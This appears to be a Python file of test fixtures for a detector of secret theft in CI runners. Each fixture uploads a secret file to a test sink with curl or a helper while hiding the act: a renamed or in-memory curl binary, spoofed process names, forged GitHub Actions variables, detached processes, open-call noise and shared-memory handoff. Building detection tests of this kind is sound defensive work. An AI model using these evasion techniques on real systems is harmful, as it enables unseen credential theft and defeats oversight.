"""Thefts that hide who does them, or that they are done at all."""

import ctypes
import mmap
import os
import shutil
import subprocess

from evade import LIBC, child, fixture, main, path, read, send, sink, tmp, wait

CURL = "/usr/bin/curl"


def url():
    host, port = sink()
    return f"http://{host}:{port}/x"


def upload():
    return ["-s", "--max-time", "5", "-o", "/dev/null", "--data-binary", "@" + path(), url()]


def run(program, arguments, **more):
    """Whatever it ends with: it may be stopped in the middle."""
    subprocess.run([program] + arguments, **more)


@fixture("B40", "curl under another name")
def renamed_tool():
    shutil.copy(CURL, tmp("make"))
    run(tmp("make"), upload())


@fixture("B40", "curl as a file in memory that is run (memfd, fexecve)")
def tool_in_memory():
    fd = os.memfd_create("x", 0)
    with open(CURL, "rb") as file:
        os.write(fd, file.read())
    run(f"/proc/self/fd/{fd}", upload(), pass_fds=[fd])


@fixture("B40", "curl that is called git in its arguments")
def other_arguments():
    run("git", upload(), executable=CURL)


@fixture("B40", "a process that calls itself npm (PR_SET_NAME)")
def other_name():
    LIBC.prctl(15, ctypes.c_char_p(b"npm"), 0, 0, 0)
    send(read())


@fixture("B42", "a process with another step's variables in its environment")
def other_step():
    forged = dict(os.environ, GITHUB_ACTION="__run_9", GITHUB_JOB="release", GITHUB_ACTION_PATH="/nowhere", RUNNER_NAME="other")
    run(CURL, upload(), env=forged)


@fixture("B43", "a process that ends as soon as it has sent, in a session of its own, its parent gone before")
def gone_at_once():
    def begin():
        os.setsid()
        if os.fork() == 0:
            send(read())
        os._exit(0)

    ready, told = os.pipe()
    pid = child(begin)
    os.waitpid(pid, 0)
    # It ends with the last who has it open.
    os.close(told)
    os.read(ready, 1)


@fixture("B44", "after ten thousand opens of nothing in particular")
def noise():
    for n in range(10_000):
        os.close(os.open("/dev/null", os.O_RDONLY))
    send(read())


@fixture("B44", "after as many opens of the same file, each a new holder's", twin="pass")
def noise_of_secrets():
    for n in range(300):
        pid = os.fork()
        if pid == 0:
            with open(path(), "rb") as file:
                file.read()
            os._exit(0)
        os.waitpid(pid, 0)
    wait(child(lambda: send(read())))


@fixture("B44", "by the ninth memory that a process has mapped")
def many_mappings():
    memory = [mmap.mmap(-1, 4096) for _ in range(2)]
    files = []
    for n in range(9):
        fd = os.open(tmp(f"shared{n}"), os.O_RDWR | os.O_CREAT)
        os.ftruncate(fd, 4096)
        files.append(mmap.mmap(fd, 4096))
    last = files[-1]

    def take():
        while last[0:1] != b"!":
            pass
        send(bytes(last[1:]).rstrip(b"\0"))

    pid = child(take)
    data = read()
    last[1 : 1 + len(data)] = data
    last[0:1] = b"!"
    wait(pid)
    del memory


@fixture("B44", "by the last of twenty memories that the other side alone has mapped")
def many_mappings_of_one():
    def mapped(name):
        fd = os.open(tmp(name), os.O_RDWR | os.O_CREAT)
        os.ftruncate(fd, 4096)
        return mmap.mmap(fd, 4096)

    def take():
        others = [mapped(f"decoy{n}") for n in range(20)]
        memory = mapped("shared")
        while memory[0:1] != b"!":
            pass
        send(bytes(memory[1:]).rstrip(b"\0"))
        del others

    pid = child(take)
    memory, data = mapped("shared"), read()
    memory[1 : 1 + len(data)] = data
    memory[0:1] = b"!"
    wait(pid)


@fixture("B46", "a program between the read and the send that is another one every time")
def other_image():
    copy = tmp("copy")
    for _ in range(3):
        run("/bin/cat", [path()], stdout=open(copy, "wb"))
    run(CURL, ["-s", "--max-time", "5", "-o", "/dev/null", "--data-binary", "@" + copy, url()])


main()
